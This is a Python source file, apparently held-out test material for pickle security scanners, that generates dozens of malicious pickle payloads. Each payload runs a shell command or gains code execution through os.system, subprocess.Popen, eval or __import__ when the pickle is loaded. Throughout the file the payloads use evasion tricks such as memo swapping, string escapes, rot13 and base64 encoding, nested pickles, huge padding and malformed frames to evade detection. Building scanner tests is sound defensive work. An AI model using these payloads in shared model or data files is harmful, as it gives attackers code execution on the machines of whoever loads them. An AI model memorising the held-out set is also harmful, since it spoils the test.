"""Every way in which a pickle's opcodes name, call and hide."""

import struct
from collections.abc import Iterator

from held_out.assemble import Rng, call, made, push, raw, stacked, system, text
from held_out.gadgets import SHELL


def opcodes(rng: Rng) -> Iterator[tuple[str, bytes]]:
    """Every way in which the opcodes name, call and hide."""
    yield "global0", b"cos\nsystem\n(S'true'\ntR."
    yield "global-old-name", b"c__builtin__\neval\n(S'1'\ntR."
    yield "inst", b"(S'true'\nios\nsystem\n."
    yield "obj", b"\x80\x02(cos\nsystem\nU\x04trueo."
    yield "newobj", made(stacked("subprocess", "Popen") + push((SHELL,)) + b"\x81")
    yield "newobj-ex", made(stacked("subprocess", "Popen") + push(([SHELL],)) + push({}) + b"\x92")
    yield (
        "newobj-ex-kw",
        made(
            stacked("subprocess", "Popen") + b")" + push({"args": SHELL, "shell": True}) + b"\x92"
        ),
    )
    yield (
        "build-setstate",
        made(stacked("code", "InteractiveInterpreter") + b")\x81" + push({"runcode": "x"}) + b"b"),
    )
    yield (
        "build-class",
        made(stacked("collections", "OrderedDict") + push((None, {"__setstate__": "x"})) + b"b"),
    )
    yield (
        "build-on-module-function",
        (
            b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\n"
            b"cnumpy\nprod.b\np1\n00g0\ng1\n\x93Vtrue\n\x85R."
        ),
    )
    yield (
        "build-setstate-by-dict",
        made(
            stacked("sklearn.linear_model._base", "LinearRegression")
            + b")\x81}"
            + text("__setstate__")
            + stacked("posix", "system")
            + b"sb"
            + text(SHELL)
            + b"b"
        ),
    )
    yield "ext1", made(call(b"\x82\xf0", SHELL))
    yield "ext2", made(call(b"\x83\xf0\x01", SHELL))
    yield "ext4", made(call(b"\x84\xf0\x01\x00\x00", SHELL))
    yield (
        "ext-registered",
        made(
            call(stacked("copyreg", "add_extension"), "posix", "system", 240)
            + b"0"
            + call(b"\x82\xf0", SHELL)
        ),
    )
    yield "persid", b"Pos.system\n."
    yield "binpersid", made(stacked("posix", "system") + push((SHELL,)) + b"R" + b"Q")
    yield "dotted", made(call(stacked("os", "path.os.system"), SHELL))
    yield "dotted-from-allowed", made(call(stacked("collections", "abc.sys.modules.get"), "os"))
    yield "dotted-numpy", made(call(stacked("numpy", "os.system"), SHELL))
    yield "dotted-torch", made(call(stacked("torch", "os.system"), SHELL))
    yield "dotted-torch-storage", made(call(stacked("torch._utils", "sys.modules.get"), "os"))
    yield (
        "dotted-sklearn",
        made(call(stacked("sklearn.linear_model._base", "sparse.sputils.np.os.system"), SHELL)),
    )
    yield (
        "dotted-init-globals",
        made(call(stacked("collections", "OrderedDict.__init__.__globals__.get"), "os")),
    )
    yield "dotted-reduce", made(call(stacked("builtins", "object.__reduce_ex__"), 1))
    yield "dotted-subclasses", made(call(stacked("builtins", "object.__subclasses__")))
    yield "dotted-mro", made(call(stacked("numpy", "ndarray.__mro__.__getitem__"), 1))
    yield (
        "memo-swapped",
        (
            b"\x80\x04"
            + text("posix")
            + b"q\x020"
            + text("system")
            + b"q\x030"
            + text("torch")
            + b"\x940"
            + text("Size")
            + b"\x940h\x02h\x03\x93"
            + push((SHELL,))
            + b"R."
        ),
    )
    yield (
        "memo-mixed",
        (
            b"\x80\x04Vos\np0\nVsystem\np1\n"
            + text("torch._utils")
            + b"\x94"
            + text("_rebuild_tensor_v2")
            + b"\x94h\x00h\x01\x93"
            + push((SHELL,))
            + b"R."
        ),
    )
    yield (
        "memo-long",
        made(
            stacked("posix", "system")
            + b"r\xff\xff\x00\x000N0j\xff\xff\x00\x00"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield "memo-get-text", b"cos\nsystem\np77\n0N0g77\n(S'true'\ntR."
    yield (
        "memo-overwritten",
        made(
            stacked("builtins", "len")
            + b"q\x00"
            + stacked("posix", "system")
            + b"q\x000h\x00"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield "dup", made(stacked("posix", "system") + b"2" + push((SHELL,)) + b"R0" + b"0N")
    yield "pop", made(system() + b"0" + push([1.0 and 1]))
    yield "pop-mark", made(b"(" + system() + b"1" + push({"w": 1}))
    yield "string-escapes", b"c" + b"posix\nsystem\n(S'\\x74\\x72\\x75\\x65'\ntR."
    yield (
        "unicode-escapes",
        (
            b"\x80\x04V\\u0070\\u006f\\u0073\\u0069\\u0078\nV\\u0073ystem\n\x93"
            + push((SHELL,))
            + b"R."
        ),
    )
    yield "string-names", b"\x80\x02S'os'\nS'system'\n\x93(S'true'\ntR."
    yield "bytes-names", made(b"C\x05posixC\x06system\x93" + push((SHELL,)) + b"R")
    yield "binstring-names", b"\x80\x04T\x02\x00\x00\x00osU\x06system\x93" + push((SHELL,)) + b"R."
    yield (
        "unicode8-names",
        made(
            b"\x8d"
            + struct.pack("<Q", 2)
            + b"os"
            + text("system")
            + b"\x93"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield "surrogate-name", made(b"X\x03\x00\x00\x00\xed\xa0\x80" + text("x") + b"\x93)R")
    yield (
        "names-computed",
        made(
            call(stacked("builtins", "str.lower"), "POSIX")
            + text("system")
            + b"\x93"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "names-joined",
        made(
            call(stacked("builtins", "str.join"), "", ["po", "six"])
            + text("system")
            + b"\x93"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "names-decoded",
        made(
            call(stacked("_codecs", "encode"), "cbfvk", "rot13")
            + text("system")
            + b"\x93"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "name-from-memo-in-list",
        made(
            b"]("
            + text("posix")
            + b"\x94"
            + text("system")
            + b"\x94e0"
            + b"h\x00h\x01\x93"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield "unterminated", b"\x80\x04" + system()
    yield "broken-after", b"\x80\x04" + system() + b"\xff\xfe\xfd."
    yield "broken-opcode-after", b"\x80\x04" + system() + b"0I123abc\n."
    yield "stack-underflow-after", b"\x80\x04" + system() + b"00000."
    yield "memo-error-after", b"\x80\x04" + system() + b"0h\x63."
    yield "frame-overlong", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + system() + b"."
    yield "frame-short", b"\x80\x04\x95" + struct.pack("<Q", 3) + system() + b"."
    yield (
        "frames-nested",
        b"\x80\x04\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 40) + system() + b".",
    )
    yield "proto-twice", b"\x80\x02\x80\x05" + system() + b"."
    yield "proto-late", system() + b"0\x80\x04N."
    yield "no-proto", system() + b"."
    yield "long4-negative", b"\x80\x04" + system() + b"0\x8b\xff\xff\xff\xff."
    yield "long-text", b"\x80\x02" + system() + b"0L1234567890123456789012345L\n."
    yield "int-bool-text", b"I01\n0I00\n0" + b"cos\nsystem\n(S'true'\ntR."
    yield "oversized-string", b"\x80\x04" + system() + b"0X\xff\xff\xff\x7fabc."
    yield "trailing-second", made(push([1, 2])) + made(system())
    yield "trailing-third", made(push([1])) + made(push({})) + made(system())
    yield "trailing-old", made(push([1, 2])) + b"cos\nsystem\n(S'true'\ntR."
    yield "trailing-after-noise", made(push([1, 2])) + bytes(64) + made(system())
    yield "prefix-blank", b"\n\n  " + b"cos\nsystem\n(S'true'\ntR."
    yield "prefix-none", b"N0" * 300 + b"cos\nsystem\n(S'true'\ntR."
    yield "padding-large", b"\x80\x04" + raw(rng.bytes(300_000)) + b"0" + system() + b"."
    yield "padding-many", b"\x80\x04" + b"K\x010" * 200_000 + system() + b"."
    yield "marks-deep", b"\x80\x04" + b"(" * 5_000 + system() + b"1" * 5_000 + b"N."
    yield "tuple-deep", b"\x80\x04" + system() + b"\x85" * 20_000 + b"."
    yield "nested-in-bytes", made(call(stacked("pickle", "loads"), made(system())))
    yield "nested-bytes-plain", made(b"}" + text("state") + raw(made(system())) + b"s")
    yield (
        "nested-text",
        made(
            b"}"
            + text("state")
            + text("Y29zCnN5c3RlbQooUyd0cnVlJwp0Ui4=")
            + b"s"
            + call(stacked("base64", "b64decode"), "x")
            + b"0"
        ),
    )
    yield (
        "nested-bytearray",
        made(b"\x96" + struct.pack("<Q", len(made(system()))) + made(system()), 5),
    )
    yield "buffer-next", b"\x80\x05\x97" + system() + b"0."
    yield "buffer-readonly", b"\x80\x05\x97\x98" + system() + b"\x86."
    yield "set-member", made(b"\x8f(" + system() + b"\x90")
    yield "frozenset-member", made(b"(" + system() + b"\x91")
    yield "dict-key", made(b"}" + system() + b"Ns")
    yield "dict-old", b"\x80\x02(" + system() + b"Nd."
    yield "list-old", b"\x80\x02(" + system() + b"l."
    yield "setitem-on-call", made(call(stacked("builtins", "globals")) + text("x") + b"Ns")
    yield "append-on-call", made(call(stacked("posix", "listdir")) + b"Na")
    yield (
        "setitems-on-environ",
        made(stacked("os", "environ") + b"(" + text("A") + text("b") + b"u"),
    )
    yield "setitem-modules", made(stacked("sys", "modules") + text("re") + text("x") + b"s")
    yield "append-path", made(stacked("sys", "path") + text("/tmp/none") + b"a")
    yield "appends-argv", made(stacked("sys", "argv") + b"(" + text("x") + text("y") + b"e")
    yield "additems-on-global", made(stacked("os", "environ") + b"(" + text("x") + b"\x90")
    yield "import-only", made(stacked("antigravity", "x"))
    yield "import-only-this", made(b"](" + stacked("os", "system") + stacked("sys", "exit") + b"e")
    yield "import-pyc-cache", made(stacked("evil_package.sub", "__name__"))
    yield (
        "exception-oriented",
        made(
            system() + b"0" + stacked("builtins", "KeyError") + push(("x",)) + b"R" + push(1) + b"b"
        ),
    )
    yield (
        "reduce-of-reduce",
        made(call(stacked("functools", "partial"), "x") + push((SHELL,)) + b"R"),
    )
    yield (
        "getattr-chain",
        made(
            stacked("builtins", "getattr")
            + b"("
            + call(stacked("builtins", "__import__"), "os")
            + text("system")
            + b"tR"
            + push((SHELL,))
            + b"R"
        ),
    )
    yield (
        "map-list",
        made(
            stacked("builtins", "list")
            + b"("
            + stacked("builtins", "map")
            + b"("
            + stacked("posix", "system")
            + push([SHELL])
            + b"tRtR"
        ),
    )
    yield (
        "bytes-new-map",
        made(
            stacked("builtins", "bytes")
            + b"("
            + stacked("builtins", "map")
            + b"("
            + stacked("posix", "system")
            + push([SHELL])
            + b"t\x81t\x81"
        ),
    )
    yield (
        "set-of-map",
        made(
            stacked("builtins", "set")
            + b"("
            + stacked("itertools", "starmap")
            + b"("
            + stacked("posix", "system")
            + push([(SHELL,)])
            + b"tRtR"
        ),
    )
